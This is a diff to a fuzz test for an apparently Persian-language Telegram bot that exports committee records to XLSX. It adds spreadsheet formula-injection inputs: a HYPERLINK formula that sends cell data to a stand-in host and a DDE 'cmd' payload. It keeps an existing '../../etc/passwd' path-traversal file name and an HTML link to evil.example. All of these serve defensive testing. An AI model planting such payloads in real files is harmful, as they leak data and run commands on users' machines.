@@ -24,8 +24,19 @@ letters = st.one_of(
 PHRASES = ("<b>bold</b>", '<a href="https://evil.example">x</a>', "&amp;", "&", "<i>", "</b>",
            "1400/02/06", "۱۴۰۰/۰۲/۰۶", "فردا", "دو هفته", "کمیته زیرساخت", "بله", "خیر",
            "/cancel", "-1", "0", "99999999999999999999", "NaN", "انجام شد", "\u200c")
+# What a spreadsheet would run as a formula (the XLSX export keeps them as text).
+FORMULAS = ('=HYPERLINK("http://x?d="&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1/0", "-", "=")
+formulas = st.one_of(st.sampled_from(FORMULAS), st.tuples(
+    st.sampled_from("=+-@\t\r"), st.text(letters, max_size=40)).map("".join))
+# Longer than any number, date or message allows: 5,000 digits, a text over Telegram's 4,096.
+over_long = st.one_of(st.integers(21, 5000).map(lambda n: "9" * n),
+                      st.integers(21, 60).map(lambda n: "۱۴۰۰/۰۲/" + "۰" * n),
+                      st.integers(4097, 6000).map(lambda n: ("=A1&" * n)[:n]))
 texts = st.one_of(
     st.text(letters, min_size=1, max_size=60),
+    formulas,
+    over_long.map(lambda t: t[:4096]),
     st.text(letters, min_size=1, max_size=4096),
     st.lists(st.sampled_from(PHRASES), min_size=1, max_size=6).map(" ".join),
     st.text(letters, min_size=1, max_size=8).map(lambda s: (s * 4096)[:4096]),
@@ -33,7 +44,12 @@ texts = st.one_of(
 )
 # Ids that exist in the seeded database are mixed in at build time (see _arg).
 junk_args = st.one_of(st.integers(-3, 10**12).map(str), st.from_regex(r"[A-Za-z0-9_.-]{0,12}",
-                                                                       fullmatch=True))
+                                                                       fullmatch=True),
+                      formulas, over_long)
+# Always tried first: a 5,000-digit number to the commands that take one.
+EXTREMES = [{"role": "secretariat", "user": 1002, "kind": "command", "chat": "private",
+             "text": f"/{command} " + "9" * 5000}
+            for command in ("import", "reports", "export", "resolutions", "session")]
 CHAT_KINDS = ("private",) * 8 + ("group", "supergroup", "channel")
 FILE_NAMES = ("minutes.txt", "minutes.docx", "report.pdf", "virus.exe", "a.xlsx", "noext",
               "صورتجلسه.txt", "../../etc/passwd", "x" * 200 + ".txt", "photo.jpg")
@@ -60,9 +76,10 @@ def actions(draw: st.DrawFn, role: str, user: int) -> dict[str, Any]:
         action.update(text=draw(texts), chat=draw(st.sampled_from(CHAT_KINDS)))
     elif kind == "command":
         command = draw(st.sampled_from([c.name for c in COMMANDS] + ["nosuch", "START"]))
-        args = draw(st.lists(st.one_of(texts.map(lambda t: t[:80]), junk_args), max_size=3))
+        args = draw(st.lists(st.one_of(texts.map(lambda t: t[:80]), junk_args, over_long),
+                             max_size=3))
         suffix = draw(st.sampled_from(("", "", "@mina_demo_bot", "@other_bot")))
-        action.update(text=" ".join([f"/{command}{suffix}", *args]),
+        action.update(text=" ".join([f"/{command}{suffix}", *args])[:4096],
                       chat=draw(st.sampled_from(CHAT_KINDS)))
     elif kind == "press":
         action.update(verb=draw(st.integers(0, 10**6)), args=draw(st.lists(
